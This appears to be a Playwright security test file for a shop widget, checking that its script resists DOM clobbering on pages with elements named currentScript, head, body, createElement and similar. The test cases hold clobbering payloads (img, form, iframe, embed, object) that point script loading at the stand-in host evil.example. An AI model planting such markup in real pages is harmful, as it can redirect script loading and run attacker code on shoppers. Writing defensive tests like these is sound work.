import type { Page } from '@playwright/test';
import { closeCart } from './pages/cart-drawer.ts';
import { signIn } from './pages/member-login.ts';
import { add } from './pages/product-form.ts';
import { DRAWER, KNIFE, LOGIN, visit } from './pages/shop-page.ts';
import { quantities } from './platform-records.ts';
import { sample } from './sample.ts';
import { expect, test, type World } from './world.ts';

test.describe('page elements named like properties that the code reads', () => {
  const EVIL = 'https://evil.example';
  const image = `<img name="currentScript" src="${EVIL}/x">`;
  const named = [
    image,
    image + image,
    `<form name="currentScript" action="${EVIL}/x"><input name="src" value="${EVIL}/x"></form>`,
    `<embed name="currentScript" src="${EVIL}/x">`,
    `<object name="currentScript" data="${EVIL}/x"></object>`,
    `<iframe name="currentScript" src="${EVIL}/x"></iframe>`,
  ];
  const policy = (world: World) =>
    `default-src 'none'; script-src 'nonce-bread' 'strict-dynamic'; connect-src ${world.api}; img-src ${world.api}; require-trusted-types-for 'script'`;
  const kinds: Readonly<
    Record<string, { attributes: Readonly<Record<string, string>>; headers?: (world: World) => Record<string, string> }>
  > = {
    'a classic script under a CSP': {
      attributes: { type: 'absent', nonce: 'bread' },
      headers: world => ({ 'content-security-policy': policy(world) }),
    },
    'a module': { attributes: {} },
    'a classic script': { attributes: { type: 'absent' } },
    'a module under a CSP': {
      attributes: { nonce: 'bread' },
      headers: world => ({ 'content-security-policy': policy(world) }),
    },
  };

  /**
   * Records the page's requests to `EVIL`, except those that the named elements make for their own content.
   * Answers all of them with a script that sets `owned`.
   */
  const watchEvil = async (page: Page) => {
    const asked: string[] = [];
    page.on('request', request => {
      const { pathname, origin } = new URL(request.url());
      if (origin === EVIL && pathname !== '/x') asked.push(`${request.resourceType()} ${pathname}`);
    });
    await page.route(`${EVIL}/**`, route =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'access-control-allow-origin': '*' },
        body: 'globalThis.owned = true',
      }),
    );
    return asked;
  };

  const shops = async (page: Page, world: World, units = 1) => {
    await add(page);
    await expect(page.getByRole('dialog')).toContainText('Bread knife');
    await expect.poll(() => quantities(world)).toEqual([units]);
    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  };

  for (const [kind, { attributes, headers }] of sample(1, Object.entries(kinds))) {
    test(
      `${kind} loads its code despite elements named currentScript`,
      { tag: ['@security-dom-clobbering', '@soak'] },
      async ({ page, world }) => {
        const asked = await watchEvil(page);
        for (const [index, html] of named.entries()) {
          const body = html + KNIFE + DRAWER + world.script(attributes);
          await visit(page, world, '/named', body, { script: '', headers: headers?.(world) ?? {} });
          await shops(page, world, index + 1);
          expect(asked, html).toEqual([]);
        }
      },
    );
  }

  test(
    'the shop works when an SVG script loads kiosk.js and an inert tag configures it',
    { tag: ['@security-dom-clobbering', '@soak'] },
    async ({ page, world }) => {
      const tag = world.script({ type: 'absent', 'data-client-id': 'absent' });
      const drawn = tag.replace('<script src=', '<svg><script href=').replace('></script>', '></script></svg>');
      const idle = `<script type="text/plain" src="${world.cdn}/kiosk/kiosk.js" data-client-id="demo-client" data-api-host="${world.api}"></script>`;
      await visit(page, world, '/svg', idle + KNIFE + DRAWER + drawn, { script: '' });
      await shops(page, world);
    },
  );

  test(
    'the shop works on a page with elements named like DOM and global properties',
    { tag: '@security-dom-clobbering' },
    async ({ page, world }) => {
      const asked = await watchEvil(page);
      const properties = [
        'adoptedStyleSheets',
        'body',
        'head',
        'readyState',
        'hidden',
        'visibilityState',
        'activeElement',
      ];
      const methods =
        'querySelector querySelectorAll getElementById addEventListener dispatchEvent createElement createElementNS createTextNode'.split(
          ' ',
        );
      const names = [...properties, 'documentElement', ...methods];
      const globals = ['kiosk', 'dataLayer', 'scheduler', 'memoryStorage', 'addEventListener', 'fetch', 'trustedTypes'];
      const body = `${names.map(name => `<form name="${name}" action="${EVIL}/sent"><input name="push"></form>`).join('')}
      <form id="kioskClicks"><input name="forEach"></form>
      ${globals.map(name => `<img id="${name}" alt="">`).join('')}
      <form style="position: fixed; inset: 0 auto auto 0; padding: 40px" id="around"><input name="closest"></form>
      ${KNIFE}<a href="#kiosk-cart">Your basket</a>${world.script({ 'data-analytics': 'datalayer' })}`;
      await visit(page, world, '/names', body, { script: '' });
      await page.mouse.click(10, 10);
      await expect(page.getByText('€39.00')).toBeVisible();
      await page.mouse.click(12, 12);
      await add(page);
      await expect.poll(() => quantities(world)).toEqual([1]);
      await page.getByRole('link', { name: 'Your basket' }).click();
      await expect(page.getByRole('dialog')).toContainText('Subtotal€39.00');
      expect(await page.locator('body > kiosk-cart-drawer').count()).toBe(1);
      // Opens the cart again, now that all code is loaded.
      await closeCart(page);
      await page.getByRole('link', { name: 'Your basket' }).click();
      await expect(page.getByRole('dialog')).toContainText('Bread knife');
      const said = () =>
        page.evaluate(() => {
          const { kiosk, dataLayer } = window as unknown as {
            kiosk: { version?: string };
            dataLayer: { event?: string }[];
          };
          return [typeof kiosk.version, dataLayer.flatMap(({ event }) => event ?? [])];
        });
      await expect.poll(said).toEqual(['string', ['view_item', 'add_to_cart', 'view_cart', 'view_cart']]);
      expect(asked).toEqual([]);
    },
  );

  test(
    'signs a member in on a page whose forms are named createElement, head and body',
    { tag: ['@security-dom-clobbering', '@soak'] },
    async ({ page, world }) => {
      const forms = ['createElement', 'documentElement', 'head', 'body'].map(
        name => `<form name="${name}"><input name="append"></form>`,
      );
      await visit(page, world, '/named', forms.join('') + LOGIN + world.script(), { script: '' });
      await signIn(page);
      await expect(page.locator('kiosk-member-login')).toContainText('Mira Holm');
    },
  );
});
